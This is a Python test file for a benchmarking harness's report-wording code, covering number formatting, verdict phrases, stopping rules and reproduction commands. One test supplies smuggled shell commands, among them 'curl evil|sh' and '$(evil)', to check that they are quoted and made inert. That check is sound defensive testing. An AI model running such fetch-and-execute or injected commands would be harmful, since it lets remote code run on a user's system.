import re
from collections.abc import Mapping, Sequence

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.analysis.analyse import ConditionResult, analyse
from harness.analysis.measures import Measure
from harness.analysis.stats.intervals import Interval
from harness.analysis.stats.verdicts import Decision, Verdict
from harness.analysis.variants import Comparison
from harness.inputs.study import Condition, Stopping
from harness.report.words.decisions import beside_ratio, in_full, mark
from harness.report.words.numbers import (
    around,
    at_most,
    estimate,
    number,
    ratio,
    times,
)
from harness.report.words.runs import blocks, repeat, stopping
from harness.report.words.verdicts import verdict, verdicts
from tests.toys.runs import BASELINE, CONDITION, make_run, make_study, simulate


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (0, "0"), (0.01234, "0.0123"), (1.5, "1.5"), (999.4, "999"), (999.6, "1,000"),
        (9_994.6, "9,995"), (123_456.0, "123,500"),
    ],
)  # fmt: skip
def test_numbers_have_three_significant_digits_and_four_from_a_thousand_on(
    value: float, text: str
) -> None:
    assert number(value) == text


@given(value=st.floats(0.001, 1e7))
def test_a_number_can_be_read_back_to_within_a_hundredth(value: float) -> None:
    text = number(value)
    assert re.fullmatch(r"[\d.,]+", text)
    assert float(text.replace(",", "")) == pytest.approx(value, rel=0.01)


def decision(found: Verdict, most: float | None = None) -> Decision:
    return Decision(found, Interval(1.0, 0.9, 1.1, 0.01, 6), most)


def test_what_is_not_known_is_no_number() -> None:
    assert not re.search(r"\d", estimate(None) + ratio(None))


def test_without_an_interval_the_reader_is_told_why() -> None:
    one = Interval(mean=1.5, low=None, high=None, se=None, blocks=1)
    assert "one block" in estimate(one)
    assert "one block" in ratio(one)


@pytest.mark.parametrize(
    ("value", "text"),
    [(97.423, "97.42"), (1.0, "1.00"), (0.0996, "0.10"), (0.0994, "0.099"), (0.0042, "0.0042")],
)
def test_a_small_ratio_keeps_two_significant_digits(value: float, text: str) -> None:
    assert times(value) == text


DIFFERS, SAME = decision(Verdict.DIFFERS), decision(Verdict.SAME)
OPEN = decision(Verdict.UNDECIDED, 0.064)
ANALYSIS = msgspec.structs.replace(analyse(make_run(), []), baseline="base")


def judged(
    against: Mapping[str, Decision],
    to_best: Mapping[str, Decision],
    ranking: Sequence[str] = ("a", "base", "b", "c"),
) -> ConditionResult:
    """A condition by server CPU, in which every ratio to the baseline is the place in the list."""
    ratios = {name: Interval(1.0 + at, 1.0, 2.0 + at, 0.1, 5) for at, name in enumerate(ranking)}
    comparison = Comparison(
        Measure.CPU, {}, ratios, dict(against), {}, tuple(ranking), (), unsaid=None,
        detectable=None, outliers=(), noise=None, to_best=dict(to_best),
    )  # fmt: skip
    comparisons = dict.fromkeys(Measure, comparison)
    return ConditionResult(Condition("cpu", 8), comparisons, {}, {}, {}, {}, {})


@pytest.mark.parametrize(
    ("others", "told"),
    [
        ({"b": DIFFERS, "c": DIFFERS}, "c used 4.00 [1.00, 5.00] times as much as base"),
        ({"b": DIFFERS, "c": OPEN}, "b used 3.00 [1.00, 4.00] times as much"),
        ({"b": SAME, "c": OPEN}, "No other variant differs from base"),
    ],
)
def test_of_a_baseline_that_is_tied_with_the_best_only_a_real_difference_is_told(
    others: dict[str, Decision], told: str
) -> None:
    assert told in verdict(judged({"a": OPEN, **others}, {}), ANALYSIS)


def test_equality_and_ignorance_are_told_apart() -> None:
    text = verdict(judged({"a": DIFFERS}, {"base": DIFFERS, "b": SAME, "c": OPEN}), ANALYSIS)
    assert "a used the least server CPU" in text
    assert "b is the same within 3 %." in text
    assert "Not told apart from it: c (at most 7 %)." in text
    assert "base used" in text
    assert "no variant is ahead" not in text


def test_who_ties_with_all_is_not_ahead() -> None:
    text = verdict(judged({"a": SAME}, {"base": OPEN, "b": SAME, "c": OPEN}), ANALYSIS)
    assert "no variant is ahead" in text
    assert "base and b are the same within 3 %" in text  # of the baseline its own family decides


def test_the_baseline_s_own_family_decides_wherever_it_is_compared() -> None:
    text = verdict(judged({"a": DIFFERS}, {"base": OPEN, "b": DIFFERS, "c": DIFFERS}), ANALYSIS)
    assert "Not told apart" not in text
    assert "base used" in text


def test_without_the_baseline_the_ranking_is_told_all_the_same() -> None:
    text = verdict(judged({}, {"b": DIFFERS}, ranking=("a", "b")), ANALYSIS)
    assert text.endswith("a used the least server CPU per request.")


@pytest.mark.parametrize(
    ("share", "text"),
    [
        (0.064, "7 %"), (0.03, "3 %"), (0.07, "7 %"), (0.0023, "0.3 %"), (0.999, "100 %"),
        (2.5, "a factor of 3.5"),
    ],
)  # fmt: skip
def test_a_bound_is_never_rounded_down(share: float, text: str) -> None:
    assert at_most(share) == text


@pytest.mark.parametrize(
    ("found", "phrase", "beside", "short"),
    [
        (DIFFERS, "differs", "", ""),
        (SAME, "the same within 3 %", "the same within 3 %", "same"),
        (OPEN, "undecided, at most 7 %", "undecided, at most 7 %", "≤ 7 %"),
        (decision(Verdict.UNDECIDED), "undecided, one block", "undecided, one block", "?"),
        (None, "", "", ""),
    ],
)  # fmt: skip
def test_each_verdict_has_a_phrase_and_only_a_difference_goes_without_saying(
    found: Decision | None, phrase: str, beside: str, short: str
) -> None:
    assert in_full(found, 0.03) == phrase
    assert beside_ratio(found, 0.03) == beside
    assert mark(found) == short


def test_by_what_rules_a_run_could_end_is_told() -> None:
    run = make_run()
    assert stopping(run).startswith("all planned blocks")
    rules = Stopping(half_width=0.03, looks=(3, 6), budget_s=600.0)
    study = msgspec.structs.replace(run.study, stopping=rules, reruns=2)
    precision, limit, reruns = stopping(make_run(study)).split("; ")
    assert "within 3 %" in precision
    assert "after 3 or 6 blocks" in precision
    assert "10 min" in limit
    assert "at most 2 noisy phases" in reruns


def test_blocks_are_told_by_the_condition_that_has_the_fewest() -> None:
    other = Condition("noop", 8, 100)
    study = msgspec.structs.replace(make_study(blocks=4), conditions=(CONDITION, other))
    run = make_run(study)
    made = simulate(run, {BASELINE: 500.0, "b/other": 700.0}, 1)
    both = [*made, *(msgspec.structs.replace(t, condition=other) for t in made)]
    assert blocks(run, analyse(run, both)) == "4 of 4 planned blocks measured"
    cut_off = [t for t in both if t.condition != other or t.block < 4]
    told = "3 of 4 planned blocks measured, and 4 under some conditions"
    assert blocks(run, analyse(run, cut_off)) == told
    assert blocks(run, analyse(run, [])) == "0 of 4 planned blocks measured"
    begun = [t for t in both if t.condition != other and t.block == 1]
    told = "0 of 4 planned blocks measured, and 1 under some conditions"
    assert blocks(run, analyse(run, begun)) == told
    said = verdicts(run, analyse(run, begun))
    assert [line.endswith(": no trial of it can be found.") for line in said] == [False, True]


def test_how_to_repeat_a_run_has_what_its_command_alone_does_not_say() -> None:
    run = msgspec.structs.replace(make_run(), command="run tiny", commit="0123abc")
    assert repeat(run) == {
        "command": "run tiny", "commit": "0123abc", "notes": [], "untracked": [],
    }  # fmt: skip
    elsewhere = msgspec.structs.replace(
        run, command="run own.toml", commit="0123abc-dirty", embedded_database=False
    )
    found = repeat(elsewhere)
    assert found["commit"] == "0123abc"
    assert found["command"].startswith("run own.toml --database-url postgresql://user:password@")
    assert len(found["notes"]) == 3
    spoilt = msgspec.structs.replace(elsewhere, untracked=("implementations/new/`app`.py",))
    assert repeat(spoilt)["untracked"] == ["implementations/new/`app`.py"]


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("run quick; curl evil|sh", "run 'quick;' curl 'evil|sh'"),
        ("run $(evil)", "run '$(evil)'"),
        ("run it's", "'run it'\"'\"'s'"),
        ("run 'my study.toml'", "run 'my study.toml'"),
    ],
)
def test_a_stranger_s_command_does_nothing_but_run_bridgetoll(command: str, shown: str) -> None:
    found = repeat(msgspec.structs.replace(make_run(), command=command))
    assert found["command"] == shown
    assert len(found["notes"]) == ("toml" in command)


def test_of_a_wide_interval_both_ends_are_told() -> None:
    close = Interval(mean=2.0, low=1.6, high=2.5, se=0.1, blocks=4)
    far = Interval(mean=2.0, low=0.5, high=8.0, se=0.1, blocks=4)
    assert around(close) == "2.00 ±25 %"
    assert around(far) == "2.00 [0.50, 8.00]"
    assert around(Interval(mean=2.0, low=None, high=None, se=None, blocks=1)) == "2.00"
